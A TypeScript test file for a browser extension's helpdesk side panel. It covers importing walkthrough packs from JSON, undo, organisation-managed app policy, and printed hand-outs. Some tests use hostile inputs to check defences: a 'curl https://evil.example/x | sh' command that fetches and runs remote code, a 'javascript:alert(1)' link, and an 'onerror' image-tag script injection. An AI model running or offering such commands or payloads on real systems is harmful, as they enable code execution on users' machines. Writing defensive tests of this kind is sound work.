// @vitest-environment happy-dom
import { act } from 'preact/test-utils';
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import type { PacksPort } from '@/entrypoints/sidepanel/ports.ts';
import type { StoredPack } from '@/utils/helpdesk/packs.ts';
import { changed, EXAMPLE, example, type JsonObject } from '../helpdesk/a-pack.ts';
import { goTo, openPanel } from './open-panel.tsx';
import { all, eventually, hide, nameOf, one, press, spoken, type } from './screen.ts';
import { setUiLanguage } from './words.ts';

vi.mock('@/utils/platform/i18n.ts', () => import('./words.ts'));

// What is loaded when a room is first opened takes its time; the tests are about what it shows.
beforeAll(async () => {
  await import('@/entrypoints/sidepanel/knowledge.ts');
  await import('@/entrypoints/sidepanel/helpdesk-rooms.tsx');
  await import('@/entrypoints/sidepanel/policy-reading.ts');
}, 60_000);
afterEach(() => {
  hide();
  setUiLanguage('en');
});

/** Keeps packs in memory; can refuse, and can be changed by another window. */
function aStore(...first: string[]) {
  const rows = new Map<string, StoredPack>();
  for (const text of first) {
    const { organisation } = JSON.parse(text) as { organisation: string };
    rows.set(organisation, { organisation, text });
  }
  const listeners = new Set<() => void>();
  let isFull = false;
  const write = (work: () => void) => {
    if (isFull) return { ok: false, why: 'full' } as const;
    work();
    return { ok: true, value: undefined } as const;
  };
  const port: PacksPort = {
    load: async () => ({ ok: true, value: [...rows.values()] }),
    save: async (pack) => write(() => rows.set(pack.organisation, pack)),
    remove: async (organisation) => write(() => rows.delete(organisation)),
    watch: (listener) => {
      listeners.add(listener);
      return () => listeners.delete(listener);
    },
  };
  return {
    packs: async () => port,
    rows,
    fill: () => {
      isFull = true;
    },
    /** What another window writes. */
    elsewhere: (text: string) =>
      act(() => {
        const { organisation } = JSON.parse(text) as { organisation: string };
        rows.set(organisation, { organisation, text });
        for (const listener of listeners) listener();
      }),
  };
}

const managed = (values: JsonObject) => ({
  policy: {
    watch: (listener: (managed: unknown) => void) => {
      listener(values);
      return () => undefined;
    },
  },
});

async function choose(text: string, name = 'contoso.json'): Promise<void> {
  const input = document.querySelector<HTMLInputElement>('.walkthroughs input[type=file]');
  if (!input) throw new Error('no file input');
  const file = new File([text], name, { type: 'application/json' });
  Object.defineProperty(input, 'files', { value: [file], configurable: true });
  await act(async () => {
    input.dispatchEvent(new Event('change', { bubbles: true }));
  });
}

/** The links of the list of apps, in their order. */
const listed = () =>
  [...document.querySelectorAll<HTMLElement>('.app-list a')].filter((a) => !a.closest('[hidden]'));
const room = () => one('region', 'Walkthroughs of your own');
const openHelpdesk = async (store: ReturnType<typeof aStore>, more = {}) => {
  await openPanel('#/helpdesk', { packs: store.packs, ...more });
  await eventually(() => one('button', 'Import walkthroughs'));
};
const OLDER = changed(['released'], '2026-10-01');
const SCANNER = 'Scanner in the entrance hall';

describe('importing walkthroughs', () => {
  it('opens the file chooser by its button', async () => {
    await openHelpdesk(aStore());
    const input = document.querySelector<HTMLInputElement>('.walkthroughs input[type=file]');
    const opened = vi.fn();
    input?.addEventListener('click', opened);
    await press(one('button', 'Import walkthroughs'));
    expect(opened).toHaveBeenCalledOnce();
  });

  it('shows what the file says it is, and keeps it only when the person says so', async () => {
    const store = aStore();
    await openHelpdesk(store);
    await choose(EXAMPLE);
    const preview = await eventually(() => one('region', 'Import walkthroughs of Contoso?'));
    for (const words of [
      'contoso.json',
      "Contoso's devices",
      'Nov',
      SCANNER,
      '7 steps',
      'it@contoso.example',
    ]) {
      expect(preview.textContent).toContain(words);
    }
    await eventually(() => expect(nameOf(document.activeElement as Element)).toBe(nameOf(preview)));
    expect(store.rows.size).toBe(0);
    await press(one('button', 'Cancel'));
    expect(store.rows.size).toBe(0);

    await choose(EXAMPLE);
    await press(await eventually(() => one('button', 'Import')));
    await eventually(() => one('link', SCANNER));
    expect(spoken(room())).toContain('From a file: Contoso');
    expect(store.rows.get('Contoso')?.text).toBe(EXAMPLE);
  });

  it('can be undone at once', async () => {
    const store = aStore();
    await openHelpdesk(store);
    await choose(EXAMPLE);
    await press(await eventually(() => one('button', 'Import')));
    await press(await eventually(() => one('button', 'Undo')));
    await eventually(() => expect(all('link', SCANNER)).toHaveLength(0));
    expect(store.rows.size).toBe(0);
    expect(spoken(room())).toContain('As it was before.');
  });

  it('lays every text open that people are asked to run, write or type', async () => {
    const command = 'curl https://evil.example/x | sh';
    await openHelpdesk(aStore());
    await choose(changed(['apps', 0, 'setup', 'password', 0], { do: 'run', command }));
    const preview = await eventually(() => one('region', /^Import walkthroughs of/));
    expect(preview.textContent).toContain('Commands can do harm');
    expect([...preview.querySelectorAll('code')].map((code) => code.textContent)).toEqual([command]);
  });

  it.each([
    ['a newer one', EXAMPLE, OLDER, 'It replaces the walkthroughs of'],
    ['an older one', OLDER, EXAMPLE, 'It is older than what is here'],
    ['another one of the same day', changed(['title'], 'New title'), EXAMPLE, 'of the same day'],
  ])('tells %s from what is here', async (_, text, here, says) => {
    const store = aStore(here);
    await openHelpdesk(store);
    await choose(text);
    const preview = await eventually(() => one('region', /^Import walkthroughs of/));
    expect(preview.textContent).toContain(says);
    await press(one('button', 'Import'));
    await eventually(() => one('button', 'Undo'));
    expect(store.rows.get('Contoso')?.text).toBe(text);
    await press(one('button', 'Undo'));
    await eventually(() => expect(store.rows.get('Contoso')?.text).toBe(here));
  });

  it('says what changes app by app', async () => {
    const [app] = example().apps as JsonObject[];
    const here = JSON.stringify({
      ...example(),
      released: '2026-10-01',
      apps: [app, { ...app, id: 'own-gone', name: 'Gone' }] as never,
    });
    const next = JSON.stringify({
      ...example(),
      apps: [
        { ...app, name: 'Scanner, moved' },
        { ...app, id: 'own-fresh', name: 'Fresh' },
      ] as never,
    });
    await openHelpdesk(aStore(here));
    await choose(next);
    const preview = await eventually(() => one('region', /^Import walkthroughs of/));
    const lines = [...preview.querySelectorAll('.pack-apps > li')].map(spoken);
    expect(lines.map((line) => line.replace(/Canon.*steps/, '')).join(' | ')).toBe(
      'Scanner, movedChanged | FreshNew | GoneGoes away',
    );
  });

  it('has nothing to import where it is here already', async () => {
    await openHelpdesk(aStore(EXAMPLE));
    await choose(EXAMPLE);
    await press(await eventually(() => one('button', 'Close')));
    expect(all('button', 'Import')).toHaveLength(0);
  });

  it('refuses a bad file with its line, and leaves everything as it was', async () => {
    const store = aStore(EXAMPLE);
    await openHelpdesk(store);
    await choose(changed(['links', 0, 'url'], 'javascript:alert(1)'));
    const alert = await eventually(() => one('alert'));
    expect(spoken(alert)).toMatch(
      /This file was refused\. Nothing was changed\..*Line \d+: ?A link begins with/,
    );
    expect(alert.querySelector('code')?.textContent).toBe('links[0].url');
    expect(alert.querySelector('pre')?.textContent).toContain('javascript:alert(1)');
    expect(store.rows.get('Contoso')?.text).toBe(EXAMPLE);
    await choose('<html>');
    await eventually(() => expect(spoken(one('alert'))).toContain('no JSON'));
  });

  it('draws markup and right-to-left names as the text they are', async () => {
    const name = '<img src=x onerror=alert(1)> ماسح';
    const store = aStore(changed(['apps', 0, 'name'], name));
    await openHelpdesk(store);
    const link = await eventually(() => one('link', name));
    expect(link.querySelector('img')).toBeNull();
    expect(link.querySelector('bdi')?.textContent).toBe(name);
  });

  it('says so when it could not be saved', async () => {
    const store = aStore();
    store.fill();
    await openHelpdesk(store);
    await choose(EXAMPLE);
    await press(await eventually(() => one('button', 'Import')));
    await eventually(() => expect(spoken(one('alert'))).toContain('could not be saved'));
    expect(all('link', SCANNER)).toHaveLength(0);
  });

  it('offers no import where nothing can be kept', async () => {
    await openPanel('#/helpdesk');
    await eventually(() => room());
    expect(all('button', 'Import walkthroughs')).toHaveLength(0);
    expect(spoken(room())).toContain('keeps nothing here');
  });

  it('says what it says in German', async () => {
    setUiLanguage('de');
    await openPanel('#/helpdesk', { packs: aStore(EXAMPLE).packs });
    await eventually(() => one('button', 'Anleitungen importieren'));
    await eventually(() => expect(document.body.textContent).toContain('Aus einer Datei: Contoso'));
  });
});

describe('imported walkthroughs', () => {
  it('are removed by a button, and come back by Undo', async () => {
    const store = aStore(EXAMPLE);
    await openHelpdesk(store);
    await press(await eventually(() => one('button', 'Remove: Contoso')));
    await eventually(() => expect(all('link', SCANNER)).toHaveLength(0));
    expect(store.rows.size).toBe(0);
    await press(one('button', 'Undo'));
    await eventually(() => one('link', SCANNER));
  });

  it('can be removed when they can no longer be read', async () => {
    const store = aStore(changed(['version'], 2));
    await openHelpdesk(store);
    await eventually(() => expect(spoken(room())).toContain("can't be read any more"));
    await press(one('button', 'Remove: Contoso'));
    await eventually(() => expect(store.rows.size).toBe(0));
  });

  it('follow what another window does', async () => {
    const store = aStore();
    await openHelpdesk(store);
    await store.elsewhere(EXAMPLE);
    await eventually(() => one('link', SCANNER));
  });

  it('stand under Apps and in the search, with where they come from', async () => {
    await openPanel('#/apps', { packs: aStore(EXAMPLE).packs });
    const link = await eventually(() => one('link', new RegExp(SCANNER)));
    expect(nameOf(link)).toContain('From a file: Contoso');
    expect(link.getAttribute('href')).toBe('#/apps/own-scanner-hall');
    await type(one('searchbox'), 'empfangsscanner');
    expect(nameOf(listed()[0] as HTMLElement)).toContain('From a file: Contoso');
  });

  it('have a page with a verdict of Keytag and their origin', async () => {
    await openPanel('#/apps/own-scanner-hall', { packs: aStore(EXAMPLE).packs });
    await eventually(() => one('heading', SCANNER));
    await eventually(() =>
      expect(document.querySelector('.own-origin')?.textContent).toContain('From a file: Contoso'),
    );
    expect(document.querySelector('.own-origin')?.textContent).toContain("Keytag can't check them");

    expect(spoken(one('region', 'Verdict'))).toContain('Only for sending');
    expect(one('link', /^Where it stands/).getAttribute('target')).toBe('_blank');
    expect(one('button', 'Start the guide')).toBeTruthy();
    await goTo('#/apps/own-nobody');
    await eventually(() => one('heading', "I don't know that app yet"));
  });
});

describe('what the organisation manages', () => {
  const CONTACT = { label: 'Service desk', url: 'tel:+49-30-5550100' };

  it('hides apps from list and search, and says so at their address', async () => {
    const policy = managed({
      hiddenApps: ['thunderbird', 'own-nobody'],
      organisationName: 'Contoso',
      contacts: [CONTACT],
    });
    await openPanel('#/apps', policy);
    // What is managed is read a moment later than the list is there.
    await eventually(() => one('region', 'Mail programs'));
    await eventually(() => expect(all('link', /^Thunderbird ?Mozilla/)).toHaveLength(0));
    await type(one('searchbox'), 'thunderbird');
    expect(all('link', /^Thunderbird ?Mozilla/)).toHaveLength(0);
    await goTo('#/apps/thunderbird');
    await eventually(() => one('heading', 'Thunderbird'));
    expect(document.body.textContent).toContain('Contoso has taken this app out of the list');
    expect(one('link', 'Service desk').getAttribute('href')).toBe(CONTACT.url);
    expect(all('button', 'Start the guide')).toHaveLength(0);
  });

  it('recommends apps, which come first under Apps and stand nowhere twice', async () => {
    await openPanel('#/apps', managed({ recommendedApps: ['outlook-new', 'msmtp'] }));
    const shelf = await eventually(() => one('region', 'Recommended by your organisation'));
    const names = [...shelf.querySelectorAll<HTMLElement>('a')].map(nameOf);
    expect(names[0]).toContain('Outlook');
    expect(names[1]).toContain('msmtp');
    expect(listed()[0]).toBe(shelf.querySelector('a'));
    expect(all('link', /^msmtp/)).toHaveLength(1);
  });

  it.each(['#/', '#/helpdesk'])('is told in its region at %s', async (hash) => {
    const logo =
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
    await openPanel(
      hash,
      managed({
        organisationName: 'Contoso',
        organisationLogo: logo,
        contacts: [CONTACT],
        links: [{ label: 'Handbook', url: 'https://intranet.contoso.example/' }],
        recommendedApps: ['outlook-new'],
        walkthroughs: example(),
      }),
    );
    const region = await eventually(() => one('region', 'From your organisation'));
    expect(region.querySelector('img')?.src).toBe(logo);
    expect(region.textContent).toContain('Contoso');
    expect(one('link', 'Service desk').getAttribute('href')).toBe(CONTACT.url);
    expect(spoken(region)).toContain('+49-30-5550100');
    expect(spoken(region)).toContain('intranet.contoso.example');
    expect(one('link', SCANNER).getAttribute('href')).toBe('#/apps/own-scanner-hall');
  });

  it('has no region where it says nothing, and a file gets none', async () => {
    await openPanel('#/', { packs: aStore(EXAMPLE).packs, ...managed({}) });
    await eventually(() => one('heading', 'What matters today'));
    await goTo('#/apps');
    await eventually(() => one('link', new RegExp(SCANNER)));
    await goTo('#/');
    await eventually(() => one('heading', 'What matters today'));
    expect(all('region', 'From your organisation')).toHaveLength(0);
  });

  it('brings walkthroughs that say they are from the organisation', async () => {
    await openPanel('#/apps/own-scanner-hall', managed({ walkthroughs: example() }));
    await eventually(() => expect(document.body.textContent).toContain('From your organisation: Contoso'));
  });

  it('says under Helpdesk why its walkthroughs were refused', async () => {
    const walkthroughs = { ...example(), apps: [{ id: 'thunderbird' }] };
    await openPanel('#/helpdesk', managed({ walkthroughs, organisationName: 'Contoso' }));
    await eventually(() => expect(spoken(room())).toContain('policy were refused'));
    expect(spoken(room())).toContain('apps[0]');
    expect(one('region', 'From your organisation')).toBeTruthy();
  });

  it('keeps an id that a file has too', async () => {
    await openPanel('#/apps/own-scanner-hall', {
      packs: aStore(EXAMPLE).packs,
      ...managed({ walkthroughs: example() }),
    });
    await eventually(() => expect(document.body.textContent).toContain('From your organisation: Contoso'));
    expect(document.body.textContent).not.toContain('From a file: Contoso');
  });
});

describe('hand-outs', () => {
  const copyLink = () => all('button', /^Copy link(?! *:)/);
  const openHandouts = async (more: object) => {
    const panel = await openPanel('#/helpdesk/hand-outs', more);
    await press(await eventually(() => one('checkbox', SCANNER)));
    await eventually(() => one('button', 'Print'));
    return panel;
  };

  it('of an app from a file print no link that starts nothing for others, and say so', async () => {
    const { copied } = await openHandouts({ packs: aStore(EXAMPLE).packs });
    expect(copyLink()).toEqual([]);
    expect(spoken(document.body)).toContain(`The walkthrough for ${SCANNER} came from a file`);
    await press(one('button', /^Copy as text/));
    expect(copied[0]).toContain('1. Open https://mysignins.microsoft.com/security-info and sign in');
    expect(copied[0]).not.toContain('#keytag=');
    await press(one('checkbox', 'msmtp'));
    await press(await eventually(() => copyLink()[0] as HTMLElement));
    expect(copied[1]).toBe('msmtp: https://mysignins.microsoft.com/security-info#keytag=msmtp');
  });

  it('of an app of the organisation’s own print it', async () => {
    const { copied } = await openHandouts(managed({ walkthroughs: EXAMPLE }));
    await press(one('button', /^Copy link(?! *:)/));
    expect(copied[0]).toBe('https://mysignins.microsoft.com/security-info#keytag=own-scanner-hall');
    expect(spoken(document.body)).not.toContain('came from a file');
  });
});
